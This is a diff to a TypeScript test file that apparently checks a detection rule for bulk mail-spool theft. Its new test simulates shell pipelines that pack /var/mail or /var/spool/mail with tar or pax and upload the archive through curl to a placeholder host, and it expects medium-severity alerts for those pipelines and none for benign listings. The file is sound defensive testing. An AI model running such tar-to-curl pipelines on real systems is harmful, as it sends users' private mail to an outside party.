@@ -1,3 +1,4 @@
+import assert from 'node:assert/strict';
 import { test } from 'node:test';
 import type { Process } from '../an0656-phishing-attachment-executed/audit-records.test-support.ts';
 import {
@@ -185,4 +186,22 @@ test('a transfer tool that reads the store itself, with no connections recorded'
   local.shell('clerk').run('/usr/bin/mutt').read(again.path);
   local.shell('clerk').run('/usr/bin/rsync -a Maildir /mnt/disk').read(again.path);
   atMostAt(await scanLog(local), 'informational');
+});
+
+test('a whole spool that is named in arguments is read, where no reads are recorded: packed to an upload, by another tool, listed', async () => {
+  for (const [pack, told] of [
+    ['/usr/bin/tar cz /var/mail', true],
+    ['/usr/bin/pax -w /var/spool/mail/', true],
+    ['/usr/bin/ls -l /var/mail', false],
+    ['/usr/bin/tar cz /var/mailman', false],
+  ] as const) {
+    const log = new HostLog({ files: false, network: false });
+    log.shell('ops').run(['/bin/sh', '-c', 'x']).pipeline(pack, `/usr/bin/curl -s -T - http://${OUT}/v`);
+    const alerts = (await scanLog(log)).filter(alert => alert.analytic === 'AN1310');
+    assert.deepEqual(
+      alerts.map(alert => alert.severity),
+      told ? ['medium'] : [],
+      pack,
+    );
+  }
 });
